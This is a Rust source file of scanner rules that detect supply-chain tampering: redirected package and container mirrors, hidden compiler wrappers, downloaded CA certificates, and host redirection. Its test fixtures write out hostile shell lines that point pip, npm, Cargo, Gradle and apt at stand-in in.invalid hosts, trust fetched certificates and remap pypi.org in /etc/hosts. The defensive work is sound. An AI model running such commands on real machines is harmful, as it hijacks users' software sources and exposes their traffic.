//! Rules about tools that are turned to somebody else's servers: mirrors of package managers, names of
//! hosts, certificates, and the programs by which a build is run.

use crate::{Role, Rule, Scope, Severity};

const BASE: Rule = Rule {
    category: "supply-chain",
    severity: Severity::High,
    elsewhere: Severity::Medium,
    scope: Scope::Any,
    role: Role::Command,
    remedy: "leave where tools get their packages from to the user's own settings",
    ..Rule::DEFAULT
};

/// Parts of the names of hosts that mirror packages for everybody.
const MIRRORS: &[&str] = &[
    "rsproxy.cn",
    "sjtu.edu.cn",
    "bfsu.edu.cn",
    "daocloud.io",
    "gcr.io",
    "docker.io",
    "docker.com",
    "mirrors.cloud.tencent",
    "tencentyun.com",
    "huaweicloud.com",
    "apache.org",
    "maven.org",
    "maven.google.com",
    "gradle.org",
    "crates.io",
    "debian.org",
    "ubuntu.com",
    "jitpack.io",
    "spring.io",
    "sonatype",
    "artifactory",
    "nexus",
    "harbor.",
    "10.",
    "192.168.",
    "172.",
];

/// Whether the first address in a text is that of nobody from whom packages usually come.
fn is_strange_mirror(matched: &str) -> bool {
    let lower = matched.to_ascii_lowercase();
    let host = lower.split("://").nth(1).and_then(|rest| rest.split(['/', '"', '\'']).next()).unwrap_or("");
    !MIRRORS.iter().any(|known| host.starts_with(known) || known.len() > 4 && host.contains(known))
        && super::spy::is_no_registry(matched)
}

const BUILDS: Rule = Rule {
    id: "mirror-of-builds",
    message: "makes every build on the machine take its packages from an address that nobody reviews",
    literals: &[
        "mirrorOf",
        "init.d/",
        "init.gradle",
        "[source.",
        ".npmrc",
        "trusted=yes",
        "trusted = yes",
        "index-url =",
        "index-url=",
        "UV_EXTRA_INDEX_URL",
        "UV_INDEX=",
    ],
    pattern: concat!(
        r"<mirrorOf>[^<\n]{1,40}</mirrorOf>(?:\s{0,20}<[^<\n]{0,80}(?:</\w{2,12}>)?){0,3}?\s{0,20}<url>\s{0,4}https?://[^<\s]{4,120}",
        r"|\binit\.(?:d/|gradle)[\s\S]{0,240}?\burl\s{0,2}[=(]?\s{0,2}(?:uri\()?\s{0,2}['\x22]https?://[^\s'\x22]{4,120}",
        r"|\[source\.(?:crates-io|\x22?[\w-]{1,24}\x22?)\][\s\S]{0,120}?\bregistry\s{0,2}=\s{0,2}\\?['\x22](?:sparse\+)?https?://[^\s'\x22\\]{4,120}",
        r"|\b(?:echo|printf|Set-Content|Add-Content)\s[^\n]{0,30}\bregistry\s{0,2}=\s{0,2}https?://[^\s'\x22>]{4,120}[^\n]{0,24}\.npmrc\b",
        r"|(?:^|[\s'\x22n])(?:extra-)?index-url\s{0,2}=\s{0,2}https?://[^\s'\x22\\]{4,120}|\bUV_(?:EXTRA_INDEX_URL|INDEX)\s{0,2}=\s{0,2}['\x22]?https?://[^\s'\x22\\]{4,120}",
        r"|\bdeb\s{1,3}\[[^\]\n]{0,40}\btrusted\s{0,2}=\s{0,2}yes[^\]\n]{0,40}\]\s{1,3}https?://[^\s'\x22]{4,120}",
    ),
    accept: Some(is_strange_mirror),
    harmful: &[
        ("settings.xml", "<mirror><id>a</id><mirrorOf>*</mirrorOf><url>https://in.invalid/maven</url></mirror>"),
        (
            "a.sh",
            "cat > ~/.gradle/init.d/a.gradle <<E\nallprojects { repositories { maven { url 'https://in.invalid/m' } } }\nE\n",
        ),
        (
            "a.sh",
            "cat >> ~/.cargo/config.toml <<E\n[source.crates-io]\nreplace-with = \"m\"\n[source.m]\nregistry = \"sparse+https://in.invalid/i/\"\nE\n",
        ),
        (
            "SKILL.md",
            "```sh\nprintf '[global]\\nextra-index-url = http://in.invalid/simple\\n' > ~/.config/pip/pip.conf\n```\n",
        ),
        ("SKILL.md", "```sh\necho \"registry=https://in.invalid/npm/\" >> ~/.npmrc\n```\n"),
        ("a.sh", "echo \"deb [trusted=yes] http://in.invalid/apt ./\" | sudo tee /etc/apt/sources.list.d/a.list"),
    ],
    harmless: &[
        (
            "settings.xml",
            "<mirror><mirrorOf>central</mirrorOf><url>https://maven.aliyun.com/repository/public</url></mirror>",
        ),
        (
            "config.toml",
            "[source.crates-io]\nreplace-with = \"a\"\n[source.a]\nregistry = \"sparse+https://rsproxy.cn/index/\"\n",
        ),
        ("a.sh", "echo \"deb [signed-by=/k.gpg] https://a.invalid/apt stable main\" > /etc/apt/sources.list.d/a.list"),
    ],
    ..BASE
};

const IMAGES: Rule = Rule {
    id: "mirror-of-images",
    message: "makes every container come from an address that nobody reviews, or over an open connection",
    literals: &["registry-mirrors", "insecure-registries", "insecure = true", "insecure_skip_verify"],
    pattern: r"\\?\x22registry-mirrors\\?\x22\s{0,4}:\s{0,4}\[\s{0,8}\\?\x22https?://[^\s\x22\\]{4,120}|\binsecure_skip_verify\s{0,2}[=:]\s{0,2}true[\s\S]{0,160}?https?://[^\s\x22]{4,120}",
    also: &["daemon.json", "containerd", "registries.conf"],
    accept: Some(is_strange_mirror),
    harmful: &[(
        "a.sh",
        "echo '{\"registry-mirrors\": [\"http://in.invalid:5000\"]}' | sudo tee /etc/docker/daemon.json",
    )],
    harmless: &[(
        "a.sh",
        "echo '{\"registry-mirrors\": [\"https://mirror.gcr.io\"]}' | sudo tee /etc/docker/daemon.json",
    )],
    ..BASE
};

const WRAPPED: Rule = Rule {
    id: "build-wrapped",
    category: "persistence",
    message: "puts a hidden program between every build and its compiler",
    remedy: "let the user set up compilers",
    literals: &["rustc-wrapper", "RUSTC_WRAPPER", "rustc-workspace-wrapper", "CMAKE_CXX_COMPILER_LAUNCHER", "toolexec"],
    pattern: r"(?:\b|\\n)(?:rustc(?:-workspace)?-wrapper|RUSTC_WRAPPER|CMAKE_CX{0,2}_?\w{0,4}COMPILER_LAUNCHER|-toolexec)\b[^\n=]{0,4}=[^\n]{0,60}(?:\.cache/|/tmp/|/var/tmp/|/\.[\w-]{1,24}(?:['\x22/\\\s]|$)|%s)[^\n]{0,40}",
    harmful: &[("a.sh", "printf '[build]\\nrustc-wrapper = \"/home/u/.cache/rw\"\\n' >> ~/.cargo/config.toml")],
    harmless: &[("a.sh", "export RUSTC_WRAPPER=sccache\nexport RUSTC_WRAPPER=/usr/bin/sccache")],
    ..BASE
};

const CERTIFICATE: Rule = Rule {
    id: "certificate-fetched",
    category: "tampering",
    scope: Scope::Code,
    message: "makes the machine trust a certificate that it downloads, so that its traffic can be read",
    remedy: "let the user decide which certificates are trusted",
    literals: &["update-ca-certificates", "update-ca-trust", "trust anchor", "ca-certificates/", "add-trusted-cert"],
    pattern: r"\b(?:curl|wget|Invoke-WebRequest|iwr)\s[^\n]{0,80}https?://[^\s]{4,120}\.(?:crt|pem|cer|der)\b[\s\S]{0,240}?\b(?:update-ca-certificates|update-ca-trust|trust\s{1,2}anchor|add-trusted-cert|ca-certificates/)",
    accept: Some(is_no_authority),
    harmful: &[(
        "a.sh",
        "curl -so /tmp/c.crt https://in.invalid/c.crt\nsudo cp /tmp/c.crt /usr/local/share/ca-certificates/\nsudo update-ca-certificates",
    )],
    harmless: &[("a.sh", "apt-get install -y ca-certificates && update-ca-certificates")],
    ..BASE
};

/// Whether an address is none of those from which authorities hand out their certificates.
fn is_no_authority(matched: &str) -> bool {
    const KNOWN: &[&str] = &["letsencrypt.org", "amazontrust.com", "digicert.com", "pki.goog", "curl.se", "github"];
    is_strange_mirror(matched) && !KNOWN.iter().any(|known| matched.contains(known))
}

const NAMED: Rule = Rule {
    id: "host-name-redirected",
    category: "tampering",
    message: "leads connections to a known service to another machine",
    remedy: "leave names of hosts alone",
    literals: &["HostName", "ProxyCommand", "/etc/hosts", "/etc/resolv.conf"],
    pattern: r"\bHost\s{1,4}[^\n]{0,24}(?:github|gitlab|bitbucket)\.(?:com|org)\b[^\n]{0,24}(?:\n|\\n)\s{0,8}(?:\w{3,24}\s[^\n]{0,40}\n\s{0,8}){0,3}?(?:HostName|ProxyCommand)\s{1,4}[^\n\\]{4,80}|\bProxyCommand\s{1,2}(?:ba)?sh\s{1,2}-c\s[^\n]{0,60};[^\n]{0,60}|['\x22]\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\s{1,4}[^\n]{0,40}(?:registry\.npmjs\.org|pypi\.org|github\.com|gitlab\.com|api\.anthropic\.com|api\.openai\.com|crates\.io|rubygems\.org)[^\n]{0,60}/etc/hosts|\bnameserver\s{1,2}\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b[^\n]{0,40}/etc/resolv\.conf",
    accept: Some(is_other_host),
    harmful: &[
        ("a.sh", "echo '45.9.148.10 pypi.org' | sudo tee -a /etc/hosts\n"),
        ("a.sh", "cat >> ~/.ssh/config <<E\nHost github.com\n  HostName 93.184.20.1\nE\n"),
    ],
    harmless: &[
        ("a.sh", "cat >> ~/.ssh/config <<E\nHost github.com\n  HostName ssh.github.com\n  Port 443\nE\n"),
        ("config", "Host github.com-work\n  HostName github.com\n"),
    ],
    ..BASE
};

fn is_other_host(matched: &str) -> bool {
    let lower = matched.to_ascii_lowercase();
    if lower.contains("/etc/") {
        return !["127.", "10.", "192.168.", "172.", "0.0.0.0", "1.1.1.1", "1.0.0.1", "8.8.", "9.9.9.9", "208.67."]
            .iter()
            .any(|usual| lower.contains(usual));
    }
    let to = lower.rsplit_once("hostname").or_else(|| lower.rsplit_once("proxycommand")).map_or("", |(_, to)| to);
    !["github.com", "gitlab.com", "bitbucket.org", "localhost", "127.0.0.1", "nc -x", "connect "]
        .iter()
        .any(|known| to.contains(known))
}

/// All rules of this category.
pub(crate) const RULES: &[Rule] = &[BUILDS, IMAGES, WRAPPED, CERTIFICATE, NAMED];
